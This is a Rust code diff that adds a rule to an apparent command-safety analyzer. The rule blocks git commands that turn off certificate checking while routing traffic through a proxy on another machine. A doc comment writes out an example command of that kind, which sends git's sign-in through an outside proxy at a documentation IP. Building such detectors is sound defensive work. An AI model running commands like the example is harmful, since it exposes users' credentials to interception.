@@ -244,6 +244,47 @@ impl Analyzer<'_> {
     }
 }
 
+impl Analyzer<'_> {
+    /// Certificates unchecked and a proxy on another machine: that proxy
+    /// reads the sign-in git sends (`-c http.sslVerify=false -c
+    /// http.proxy=http://203.0.113.7:8080 push`).
+    pub(super) fn proxied_past_tls(&mut self, c: &Cmd<'_>) {
+        let mut settings: Vec<(String, String)> = Vec::new();
+        for (i, x) in c.args.iter().enumerate() {
+            let kv = match x.as_str() {
+                "-c" | "--config" => c.args.get(i + 1).map(String::as_str),
+                _ => x.strip_prefix("--config="),
+            };
+            if let Some((k, v)) = kv.and_then(|kv| kv.split_once('=')) {
+                settings.push((lower(k), lower(v.trim_matches(['\'', '"']))));
+            }
+        }
+        for (n, v) in &c.src.assigns {
+            settings.push((format!("env.{}", lower(n)), lower(&v.text)));
+        }
+        let tls_off = settings.iter().any(|(k, v)| {
+            k.starts_with("http.")
+                && k.ends_with(".sslverify")
+                && matches!(v.as_str(), "false" | "0" | "no" | "off")
+                || k == "env.git_ssl_no_verify" && !v.is_empty()
+        });
+        let far_proxy = settings.iter().any(|(k, v)| {
+            let proxy = k.starts_with("http") && k.ends_with(".proxy")
+                || matches!(
+                    k.as_str(),
+                    "env.https_proxy" | "env.http_proxy" | "env.all_proxy"
+                );
+            let rest = v.split_once("://").map_or(v.as_str(), |(_, r)| r);
+            proxy && super::project_out::far_host(rest).is_some()
+        });
+        if tls_off && far_proxy {
+            self.block(
+                "exfiltration (git sends its sign-in through a proxy on another machine, with certificates unchecked)",
+            );
+        }
+    }
+}
+
 /// `--config-env=KEY=VAR`: the setting's value is the variable's, known when
 /// the same command assigns it; otherwise it stays `$VAR`, a value nobody
 /// can read before the command runs.
